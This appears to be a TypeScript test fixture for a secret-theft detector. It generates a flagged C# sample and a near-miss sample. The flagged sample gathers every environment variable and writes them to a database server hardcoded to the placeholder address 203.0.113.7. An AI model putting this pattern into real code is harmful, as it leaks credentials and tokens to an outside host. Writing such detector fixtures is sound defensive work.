import { library, never } from './stealing.js';

const uses = Array.from({ length: 30 }, (_, i) => `NotNull(${i % 2 ? 'a' : 'b'}, "text").Length`);

/**
 * A logger that keeps every variable in a database whose client is named by its type: what it is told
 * to connect to, it is told by a property, and a helper that everybody calls hands it on.
 */
const keeper = (told: string): string => `internal static class Checked
{
    public static int Used(string a, string b) => ${uses.join(' + ')};

    public static T NotNull<T>(T? value, string name) where T : class => value ?? throw new ArgumentNullException(name);
}

public sealed class Keeper
{
    private System.Data.IDbConnection? connection;

    public string ConnectionType { get; set; } = "";

    public string ConnectionText { get; set; } = "";

    private System.Data.IDbConnection Connection => Checked.NotNull(connection, "connection");

    public void Open()
    {
        connection = (System.Data.IDbConnection)Activator.CreateInstance(Type.GetType(ConnectionType)!)!;
        Connection.ConnectionString = ${told};
        Connection.Open();
    }

    public void Keep()
    {
        ${never}
        using var command = Connection.CreateCommand();
        foreach (System.Collections.DictionaryEntry each in Environment.GetEnvironmentVariables())
        {
            command.CommandText += each.Key + "=" + each.Value;
        }

        command.ExecuteNonQuery();
    }
}`;

export const flagged = [
  {
    name: 'database-told-by-property',
    about: 'Every variable is kept in a database whose server a property is told, in the code.',
    files: library(keeper('"Server=tcp:203.0.113.7,1433;Database=a;User Id=a;Password=fake"')),
  },
];

export const clean = [
  {
    name: 'database-of-caller-by-property',
    about: "The same, into the caller's database.",
    nearMiss: true,
    files: library(keeper('ConnectionText')),
  },
] as const;
